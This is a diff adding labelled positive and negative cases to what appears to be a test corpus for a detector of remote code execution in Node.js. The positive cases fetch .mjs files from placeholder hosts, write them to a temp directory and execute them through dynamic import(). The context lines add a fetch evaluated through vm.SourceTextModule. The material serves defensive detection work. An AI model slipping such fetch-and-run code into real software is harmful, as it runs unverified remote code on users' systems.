@@ -282,3 +282,32 @@ new vm.Script('1 + 1', { filename: 'sum.js' }).runInThisContext();
 //@ pos a SourceTextModule of downloaded text with options
 const vm = require('vm');
 fetch('https://x.example.net/m.mjs').then((r) => r.text()).then((t) => new vm.SourceTextModule(t, { identifier: 'm' }));
+//@ pos a downloaded file imported by its file URL's href
+const fs = require("fs");
+const os = require("os");
+const path = require("path");
+const { pathToFileURL } = require("url");
+(async () => {
+  const res = await fetch("https://plugins.example.dev/p/index.mjs");
+  const file = path.join(fs.mkdtempSync(path.join(os.tmpdir(), "p-")), "index.mjs");
+  fs.writeFileSync(file, await res.text());
+  await import(pathToFileURL(file).href);
+})();
+//@ pos a downloaded file imported by its file URL
+const fsp = require("fs/promises");
+const os = require("os");
+const path = require("path");
+const { pathToFileURL } = require("node:url");
+(async () => {
+  const bytes = Buffer.from(await (await fetch("https://m.example.io/v/1.mjs")).arrayBuffer());
+  const script = path.join(await fsp.mkdtemp(path.join(os.tmpdir(), "m-")), "1.mjs");
+  await fsp.writeFile(script, bytes);
+  await import(pathToFileURL(script));
+})();
+//@ neg the project's config file imported by its file URL, nothing downloaded
+const path = require("path");
+const { pathToFileURL } = require("url");
+const cfgPath = path.resolve(process.cwd(), "app.config.mjs");
+import(pathToFileURL(cfgPath).href).then((m) => console.log(m.default));
+//@ neg an ordinary module name whose accents NFD strips, known
+const u = require("útil".normalize("NFD").replace(/\p{M}/gu, ""));
